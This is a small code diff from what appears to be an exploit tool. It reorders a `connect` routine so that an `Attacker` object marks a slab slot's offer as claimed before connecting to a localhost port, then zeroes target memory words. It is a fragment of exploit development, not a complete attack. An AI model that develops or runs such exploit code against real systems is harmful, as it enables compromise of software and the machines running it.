@@ -202,8 +202,9 @@ def connect(attacker: Attacker, sock: socket.socket, port: int, slot: int) -> bo
     attacker.repair()
     sock.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, layout.HINT_TTL)
     sock.settimeout(1)
-    sock.connect(("127.0.0.1", port))
     part = attacker.slab.slot[slot]
+    part.offer = layout.OFFER_CLAIMED  # before the SYN leaves, or the server expects no offer
+    sock.connect(("127.0.0.1", port))
     for direction in part.dir:
         for target in words_of(direction, layout.DIRECTION):
             store(target, 0)
